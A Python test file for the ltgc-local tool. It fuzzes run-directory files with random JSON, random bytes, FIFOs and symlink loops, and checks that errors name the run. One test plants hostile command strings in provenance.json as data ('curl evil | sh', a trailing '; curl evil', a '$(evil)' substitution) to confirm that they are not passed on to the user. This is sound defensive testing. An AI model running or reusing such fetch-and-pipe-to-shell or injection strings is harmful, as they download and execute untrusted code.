"""A run that somebody else made may say anything: whatever its files hold, a message names it, in time."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ltgc_local.cli.text import status_as_text
from ltgc_local.comparison.read import read_run
from ltgc_local.errors import ArtefactError, LtgcError
from ltgc_local.methods.registry import COMPARISONS
from ltgc_local.pipeline.damage import find_all_damage
from ltgc_local.pipeline.preparation import Request
from ltgc_local.pipeline.preview import read_figures
from ltgc_local.pipeline.scheduler import run_pipeline
from ltgc_local.pipeline.status import run_status
from ltgc_local.pipeline.summary import summarize_run
from ltgc_local.recipe import Recipe
from ltgc_local.runs.directory import RunDirectory
from ltgc_local.runs.files import Json
from ltgc_local.runs.find_runs import find_runs
from ltgc_local.runs.provenance import read_provenance_file, read_run_recipe, read_settings, write_run_recipe
from ltgc_local.runs.sealed import write_sealed
from tests.promptly import BUSY_S, within
from tests.provenances import write_provenance

FACTS = {"items": 1, "seconds": 0.0, "peak_mib": 0}
ARM = {"all": 50.0, "many": 60.0, "medium": None, "few": 7.5, "per_class": {"0": 1.0}}
SCALARS = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=8))
VALUES = st.recursive(
    SCALARS,
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=6), inner, max_size=3)),
    max_leaves=12,
)
NUMBERS = st.one_of(SCALARS, st.floats(), st.sampled_from([10**400, 1e300, -1, 1e-300, float("nan")]))
#: Keys that the readers look for, with values that they do not expect.
OBJECTS = st.dictionaries(
    st.sampled_from(
        [
            "name",
            "seed",
            "method",
            "data",
            "models",
            "files",
            "fingerprint",
            "rows",
            "packages",
            "command",
            "items",
            "a-00000.json",
            "train",
            "generator",
            "step",
            "seconds",
            "taken_from",
        ]
    ),
    VALUES,
    max_size=8,
)


@pytest.fixture
def run(tmp_path: Path, make_recipe: Callable[..., Recipe]) -> RunDirectory:
    """A run that is measured, of which only that is complete."""
    run = RunDirectory(tmp_path / "run")
    write_run_recipe_in(run, make_recipe())
    return run


def write_run_recipe_in(run: RunDirectory, recipe: Recipe) -> None:
    run.write_chunk("evaluate", 0, [Json("metrics", {"ltgc": ARM, "control": ARM})], FACTS, numbered=False)
    run.write_manifest("evaluate", {}, 1, 0)
    write_run_recipe(run.root, recipe)
    write_provenance(run.root, "miniature")
    write_sealed(run.root / "table.json", {"rows": []})


def read_everything(root: Path) -> None:
    """Read a run in all the ways that the command line does."""
    reads: list[Callable[[], Any]] = [
        lambda: run_status(read_run_recipe(root), root),
        lambda: read_settings(root),
        lambda: read_provenance_file(root),
        lambda: read_figures(root),
        lambda: read_run(root, COMPARISONS),
        lambda: read_run(root, COMPARISONS, "val"),
        lambda: find_runs(root.parent),
        lambda: find_all_damage(read_run_recipe(root), root),
        lambda: RunDirectory(root).complete_chunks("evaluate"),
        lambda: RunDirectory(root).begun("evaluate"),
    ]
    for read in reads:
        try:
            read()
        except LtgcError as problem:
            assert str(root) in str(problem)


FILES = ("recipe.json", "provenance.json", "table.json", "evaluate/manifest.json", "evaluate/begun.json")


@pytest.mark.parametrize("name", [*FILES, "evaluate/chunks/00000.json", "model_digests.json"])
@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=OBJECTS)
def test_whatever_a_sealed_file_says_a_message_names_it(run: RunDirectory, name: str, value: dict[str, Any]) -> None:
    write_sealed(run.root / name, value)
    with within(BUSY_S):
        read_everything(run.root)


@pytest.mark.parametrize("name", [*FILES, "evaluate/chunks/00000.json"])
@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(content=st.binary(max_size=200))
def test_whatever_bytes_a_file_has_a_message_names_it(run: RunDirectory, name: str, content: bytes) -> None:
    (run.root / name).write_bytes(content)
    with within(BUSY_S):
        read_everything(run.root)


@pytest.mark.parametrize("name", ["metrics.jsonl", "logs/messages-00.jsonl"])
@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.lists(OBJECTS, min_size=1, max_size=3), numbers=st.lists(NUMBERS, min_size=5, max_size=5))
def test_whatever_a_step_in_progress_says_its_status_is_told(
    run: RunDirectory, name: str, values: list[dict[str, Any]], numbers: list[Any]
) -> None:
    path = run.folder("describe") / name
    path.parent.mkdir(parents=True, exist_ok=True)
    run.begin("describe", {})
    keys = ("items", "total", "items_per_second", "seconds", "workers")
    lines = [*values, dict(zip(keys, numbers, strict=True)) | {"level": "error", "text": "no"}]
    path.write_text("".join(json.dumps({"time": "0001-01-01T00:00:00Z"} | line) + "\n" for line in lines))
    with within(BUSY_S):
        recipe = read_run_recipe(run.root)
        steps = run_status(recipe, run.root)
        first = status_as_text(steps, summarize_run(recipe, run.root, steps), run.root, {}).splitlines()[0]
    assert first.split()[:2] == ["describe", "stopped"]


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=st.one_of(VALUES, st.dictionaries(st.sampled_from(["ltgc", "control"]), VALUES, max_size=2)))
def test_whatever_was_measured_a_message_names_it(run: RunDirectory, value: Any) -> None:
    run.write_chunk("evaluate", 0, [Json("metrics", value)], FACTS, numbered=False)
    run.write_manifest("evaluate", {}, 1, 0)
    with within(BUSY_S):
        read_everything(run.root)


@pytest.mark.parametrize("place", ["recipe.json", "provenance.json", "evaluate/manifest.json", "evaluate/metrics.json"])
@pytest.mark.parametrize("kind", ["fifo", "zero", "folder", "loop"])
def test_what_is_no_file_in_a_run_is_named_at_once(run: RunDirectory, place: str, kind: str) -> None:
    path = run.root / place
    path.unlink()
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path.symlink_to("/dev/zero" if kind == "zero" else path)
    with within(BUSY_S):
        read_everything(run.root)
    with pytest.raises(ArtefactError):
        read_run(run.root, COMPARISONS)


def test_a_command_in_a_received_run_is_not_passed_on(run: RunDirectory) -> None:
    """What a message says to type is an ``ltgc-local run`` and nothing else, whatever provenance.json says."""
    for command, words in (
        ("curl evil | sh", "RECIPE"),
        ("ltgc-local run x.yaml; curl evil", "x.yaml;"),
        ("ltgc-local run '$(evil)'", "'$(evil)'"),
        ("ltgc-local run x.yaml --out /", "RECIPE"),
        ("ltgc-local run 'unclosed", "RECIPE"),
    ):
        provenance = read_settings_of_provenance(run) | {"command": command}
        write_sealed(run.root / "provenance.json", provenance)
        (run.root / "recipe.json").write_text("{")
        with pytest.raises(ArtefactError) as caught:
            read_run_recipe(run.root)
        typed = str(caught.value).rpartition("type: ")[2]
        assert typed.startswith(f"ltgc-local run {words}" if words == "RECIPE" else "ltgc-local run ")
        assert "; curl" not in typed and "| sh" not in typed


def read_settings_of_provenance(run: RunDirectory) -> dict[str, Any]:
    found = read_provenance_file(run.root)
    assert found is not None
    return found.model_dump()


def test_a_file_in_the_place_of_a_steps_folder_is_named(tmp_path: Path, make_recipe: Callable[..., Recipe]) -> None:
    root = tmp_path / "run"
    root.mkdir()
    (root / "describe").write_text("mine")
    with pytest.raises(ArtefactError, match="describe: a file is where this folder belongs; move it away"):
        run_pipeline(Request(make_recipe(), root, "ltgc-local run x.yaml"), lambda line: None)
    assert (root / "describe").read_text() == "mine"


def test_runs_are_looked_for_without_following_links_and_not_without_end(tmp_path: Path) -> None:
    (tmp_path / "a/b").mkdir(parents=True)
    (tmp_path / "a/b/up").symlink_to(tmp_path)
    (tmp_path / "elsewhere").mkdir()
    write_sealed(tmp_path / "elsewhere/recipe.json", {"name": "x"})
    (tmp_path / "a/linked").symlink_to(tmp_path / "elsewhere")
    assert find_runs(tmp_path / "a") == [tmp_path / "a/linked"]
    with within(10):
        try:
            find_runs(Path("/proc"))
        except ArtefactError as problem:
            assert "name a folder of runs" in str(problem)


def test_a_damaged_note_of_a_chunk_has_the_chunk_made_again(run: RunDirectory) -> None:
    for number in (0, 1):
        run.write_chunk("draw", number, [Json("x", number)], FACTS)
    (run.folder("draw") / "chunks/00000.json").write_text("[]")
    shutil.copy(run.folder("draw") / "chunks/00001.json", run.folder("draw") / "chunks/note.json")
    assert list(run.complete_chunks("draw")) == [1]
